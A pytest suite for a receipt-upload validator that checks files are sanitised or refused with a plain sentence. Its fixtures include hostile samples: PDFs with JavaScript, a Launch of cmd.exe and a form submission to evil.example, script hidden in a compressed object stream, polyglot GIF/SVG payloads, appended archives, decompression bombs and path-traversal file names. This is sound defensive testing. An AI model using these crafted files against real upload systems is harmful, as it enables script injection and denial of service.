"""Files from people: what is taken is made safe, what is not is refused with a sentence that says what to do."""

import io
import time as real_time
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from core import uploads
from core.likeness import NEAR, difference
from core.uploads import RefusedFile, check_file

pytestmark = pytest.mark.pure


def a_picture(kind: str, size: tuple[int, int] = (40, 30), **how: object) -> bytes:
    out = io.BytesIO()
    Image.radial_gradient("L").resize(size).convert("RGB").save(out, kind, **how)
    return out.getvalue()


def a_pdf(
    *, pages: int = 1, root: dict[str, object] | None = None, attached: tuple[str, bytes] | None = None
) -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(200, 200)
    for name, value in (root or {}).items():
        writer._root_object[NameObject(name)] = value
    if attached:
        writer.add_attachment(*attached)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def an_action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for name, value in entries.items():
        action[NameObject(f"/{name}")] = TextStringObject(value)
    return action


def hidden_in_an_object_stream() -> bytes:
    """A PDF whose script stands in a compressed object stream, where a search of the bytes does not see it."""
    objects = [
        (1, b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"),
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
        (4, b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    ]
    bodies, index, offset = b"", [], 0
    for number, body in objects:
        index.append(f"{number} {offset}")
        bodies += body + b" "
        offset += len(body) + 1
    head = " ".join(index).encode() + b" "
    packed = zlib.compress(head + bodies)
    out = b"%PDF-1.7\n"
    at_stream = len(out)
    out += b"5 0 obj<</Type/ObjStm/N 4/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
        len(head),
        len(packed),
    )
    out += packed + b"\nendstream endobj\n"
    at_table = len(out)
    rows = b"".join(
        [
            b"\x00\x00\x00\x00\xff",
            *(b"\x02" + (5).to_bytes(3, "big") + bytes([place]) for place in range(4)),
            b"\x01" + at_stream.to_bytes(3, "big") + b"\x00",
            b"\x01" + at_table.to_bytes(3, "big") + b"\x00",
        ]
    )
    out += b"6 0 obj<</Type/XRef/Size 7/Root 1 0 R/W[1 3 1]/Length %d>>stream\n" % len(rows)
    return out + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % at_table


def a_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "a")
    return out.getvalue()


@pytest.mark.parametrize(
    ("kind", "name", "becomes"),
    [
        ("JPEG", "receipt.jpg", "image/jpeg"),
        ("JPEG", "IMG_1.JPEG", "image/jpeg"),
        ("PNG", "receipt.png", "image/png"),
        ("HEIF", "IMG_2.heic", "image/jpeg"),
    ],
)
def test_pictures_are_taken_and_made_anew(kind, name, becomes):
    import pillow_heif

    pillow_heif.register_heif_opener()
    checked = check_file(a_picture(kind), name)
    assert checked.content_type == becomes
    assert checked.likeness is not None


def test_a_plain_pdf_is_taken_as_it_is():
    content = a_pdf()
    assert check_file(content, "invoice.pdf").content == content


def test_an_electronic_invoice_with_its_xml_is_taken():
    assert check_file(a_pdf(attached=("factur-x.xml", b"<a/>")), "invoice.pdf")


def test_place_and_comment_of_a_photo_are_gone():
    exif = Image.Exif()
    exif[0x010E] = "secret words"
    exif.get_ifd(0x8825)[1] = "N"
    checked = check_file(a_picture("JPEG", exif=exif), "photo.jpg")
    assert b"secret words" not in checked.content
    assert not Image.open(io.BytesIO(checked.content)).getexif()


def test_what_stands_behind_a_picture_is_gone():
    tail = b"<script>alert(1)</script>" + a_zip()
    checked = check_file(a_picture("PNG") + tail, "photo.png")
    assert b"<script>" not in checked.content and b"PK" not in checked.content[-100:]


def test_a_picture_lying_on_its_side_is_turned():
    exif = Image.Exif()
    exif[0x0112] = 6
    checked = check_file(a_picture("JPEG", (40, 30), exif=exif), "photo.jpg")
    assert Image.open(io.BytesIO(checked.content)).size == (30, 40)


def test_the_same_picture_in_another_size_and_kind_looks_alike():
    one = check_file(a_picture("PNG", (600, 400)), "a.png")
    other = check_file(a_picture("JPEG", (300, 200)), "b.jpg")
    assert difference(one.likeness, other.likeness) <= NEAR
    assert one.sha256 != other.sha256


ACTION = "This PDF holds a script or another action. Print it to PDF again and upload that."
HIDDEN = "Another file is hidden in this PDF. Print it to PDF again and upload that."
UNREADABLE = "This PDF can't be read. Print it to PDF again and upload that."
KINDS = "Choose a PDF, or a picture as JPEG, PNG or HEIC."


@pytest.mark.parametrize(
    ("name", "make", "sentence"),
    [
        ("x.pdf", lambda: b"", "The file is empty."),
        ("x.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", KINDS),
        ("x.png", lambda: b"<!doctype html><script>alert(1)</script>", KINDS),
        ("x.gif", lambda: b"GIF89a=1;alert(1)//", KINDS),
        ("x.pdf", a_zip, KINDS),
        ("x.docx", a_zip, KINDS),
        ("x.pdf", lambda: b"%PDF-1.7 nothing more", UNREADABLE),
        ("x.pdf", lambda: a_pdf(root={"/OpenAction": an_action("/JavaScript", JS="app.alert(1)")}), ACTION),
        ("x.pdf", lambda: a_pdf(root={"/OpenAction": an_action("/Launch", F="cmd.exe")}), ACTION),
        (
            "x.pdf",
            lambda: a_pdf(root={"/OpenAction": an_action("/SubmitForm", F="https://evil.example")}),
            ACTION,
        ),
        ("x.pdf", lambda: a_pdf(root={"/OpenAction": an_action("/Java#53cript", JS="1")}), ACTION),
        ("x.pdf", hidden_in_an_object_stream, ACTION),
        ("x.pdf", lambda: a_pdf(attached=("evil.exe", b"MZ")), HIDDEN),
        ("x.pdf", lambda: a_pdf() + a_zip(), HIDDEN),
        ("x.pdf", lambda: a_pdf() + b"<script>alert(1)</script>", HIDDEN),
        ("x.pdf", lambda: a_pdf(pages=31), "A PDF can have up to 30 pages."),
        (
            "x.png",
            lambda: a_picture("PNG")[:60],
            "This picture can't be read. Take it again, or save it as JPEG.",
        ),
    ],
    ids=range(17),
)
def test_hostile_files_are_refused_with_a_sentence(name, make, sentence):
    with pytest.raises(RefusedFile) as refused:
        check_file(make(), name)
    assert str(refused.value) == sentence


def test_a_locked_pdf_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(9, 9)
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(RefusedFile, match="locked with a password"):
        check_file(out.getvalue(), "x.pdf")


def test_the_extension_has_to_say_what_it_is():
    with pytest.raises(RefusedFile, match=r"ends in “\.pdf”"):
        check_file(a_picture("PNG"), "x.pdf")


def test_too_many_bytes_are_refused_unread():
    with pytest.raises(RefusedFile, match="larger than 10 MB"):
        check_file(b"%PDF-" + b"x" * uploads.MOST_BYTES, "x.pdf")


def test_a_picture_bomb_is_refused_before_it_is_decoded():
    """A PNG of 65,535 by 65,535 pixels in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    size = (65_535).to_bytes(4, "big") * 2
    bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size + b"\x08\x02\x00\x00\x00")
    bomb += chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    began = real_time.monotonic()
    with pytest.raises(RefusedFile):
        check_file(bomb, "x.png")
    assert real_time.monotonic() - began < 2


def test_a_pdf_bomb_is_refused_in_time():
    """An object stream that unfolds to 100 MB."""
    packed = zlib.compress(b"0 " * 50_000_000, 9)
    out = b"%PDF-1.7\n"
    at_stream = len(out)
    out += b"5 0 obj<</Type/ObjStm/N 9/First 9/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    out += packed + b"\nendstream endobj\n"
    at_table = len(out)
    rows = b"\x00\x00\x00\x00\xff" + b"\x02\x00\x00\x05\x00" * 4
    rows += b"\x01" + at_stream.to_bytes(3, "big") + b"\x00" + b"\x01" + at_table.to_bytes(3, "big") + b"\x00"
    out += b"6 0 obj<</Type/XRef/Size 7/Root 1 0 R/W[1 3 1]/Length %d>>stream\n" % len(rows)
    out += rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % at_table
    began = real_time.monotonic()
    with pytest.raises(RefusedFile):
        check_file(out, "x.pdf")
    assert real_time.monotonic() - began < 3


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.png", "passwd.png"),
        ("C:\\tmp\\a.png", "a.png"),
        ("a\r\nX: 1.png", "aX 1.png"),
        (".png.png", "png.png"),
    ],
)
def test_a_name_is_text_and_never_a_path(name, kept):
    assert check_file(a_picture("PNG"), name).name == kept


def a_chunk(kind: bytes, data: bytes) -> bytes:
    """A part of a PNG."""
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def with_a_chunk(kind: bytes, data: bytes) -> bytes:
    """A PNG with one more part before its end."""
    picture = a_picture("PNG")
    return picture[:-12] + a_chunk(kind, data) + picture[-12:]


SCRIPT = b"<html><script>alert(document.cookie)</script></html>"


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("a script in a JPEG's comment", lambda: ("x.jpg", a_picture("JPEG", comment=SCRIPT))),
        ("a script behind a JPEG", lambda: ("x.jpg", a_picture("JPEG") + SCRIPT)),
        ("an archive behind a JPEG", lambda: ("x.jpg", a_picture("JPEG") + a_zip())),
        ("a script in a PNG's text", lambda: ("x.png", with_a_chunk(b"tEXt", b"Comment\0" + SCRIPT))),
        ("a script in a PNG's colour profile", lambda: ("x.png", with_a_chunk(b"zzZz", SCRIPT))),
        ("a page behind a PNG", lambda: ("x.png", a_picture("PNG") + SCRIPT)),
        ("a script behind a HEIC", lambda: ("x.heic", a_picture("HEIF") + SCRIPT)),
    ],
)
def test_of_two_files_in_one_only_the_picture_is_kept(name, make):
    import pillow_heif

    pillow_heif.register_heif_opener()
    file_name, content = make()
    checked = check_file(content, file_name)
    assert checked.content_type in ("image/jpeg", "image/png"), name
    for sign in (b"<script", b"<html", b"PK\x03\x04", b"PK\x05\x06"):
        assert sign not in checked.content
    assert Image.open(io.BytesIO(checked.content)).size == (40, 30)


def with_attached(name: str, content: bytes) -> bytes:
    return a_pdf(attached=(name, content))


def acting_page(key: str) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    page[NameObject(key)] = DictionaryObject({NameObject("/O"): an_action("/JavaScript", JS="app.alert(1)")})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def form_of_xfa() -> DictionaryObject:
    return DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})


def a_bomb() -> bytes:
    """An archive of 100 MB of nothing in 100 KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0", b"\0" * 100_000_000)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("a GIF that is a script too", lambda: b"GIF89a/*" + b"\0" * 40 + b"*/=1;alert(1)", KINDS),
        ("an archive before a PDF", lambda: a_zip() + a_pdf(), KINDS),
        ("a page before a PDF", lambda: b"<html><script>1</script>" + a_pdf(), KINDS),
        ("a page in a PDF's first lines", lambda: b"%PDF-1.7\n<script>1</script>" + a_pdf(), HIDDEN),
        (
            "an archive whose end is in a PDF",
            lambda: a_pdf()[:-7] + b"PK\x05\x06" + b"\0" * 18 + b"%%EOF",
            HIDDEN,
        ),
        ("a program called XML", lambda: with_attached("factur-x.xml", b"MZ\x90\0" * 20), HIDDEN),
        ("a page called XML", lambda: with_attached("x.xml", b"<?xml version='1.0'?>" + SCRIPT), HIDDEN),
        ("a drawing called XML", lambda: with_attached("x.xml", b"<svg onload='alert(1)'/>"), HIDDEN),
        ("a script when a page opens", lambda: acting_page("/AA"), ACTION),
        ("a form that computes", lambda: a_pdf(root={"/AcroForm": form_of_xfa()}), ACTION),
        ("a bomb of an archive", a_bomb, KINDS),
        ("an executable", lambda: b"MZ\x90\0" + b"\0" * 200, KINDS),
        ("a bitmap", lambda: a_picture("BMP"), KINDS),
        ("a TIFF", lambda: a_picture("TIFF"), KINDS),
        ("a text", lambda: b"Invoice 77", KINDS),
    ],
)
def test_whatever_is_not_plainly_a_receipt_is_refused(name, content, sentence):
    began = real_time.monotonic()
    with pytest.raises(RefusedFile) as refused:
        check_file(content(), "x.pdf")
    assert str(refused.value) == sentence, name
    assert real_time.monotonic() - began < 2


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "HEIF"])
def test_place_camera_and_comment_are_gone_from_every_kind(kind):
    import pillow_heif

    pillow_heif.register_heif_opener()
    exif = Image.Exif()
    exif[0x010E], exif[0x0110] = "secret words", "Camera 9"
    exif.get_ifd(0x8825)[1] = "N"
    extension = {"JPEG": "jpg", "PNG": "png", "HEIF": "heic"}[kind]
    checked = check_file(a_picture(kind, exif=exif.tobytes()), f"photo.{extension}")
    assert b"secret words" not in checked.content and b"Camera 9" not in checked.content
    assert not Image.open(io.BytesIO(checked.content)).getexif()


def test_a_text_that_unfolds_in_a_picture_is_refused_or_ignored_in_time():
    """A PNG's compressed text of 100 MB in 100 KB."""
    packed = zlib.compress(b"A" * 100_000_000, 9)
    began = real_time.monotonic()
    try:
        checked = check_file(with_a_chunk(b"zTXt", b"Comment\0\0" + packed), "x.png")
    except RefusedFile:
        checked = None
    assert real_time.monotonic() - began < 2
    assert checked is None or len(checked.content) < 10_000
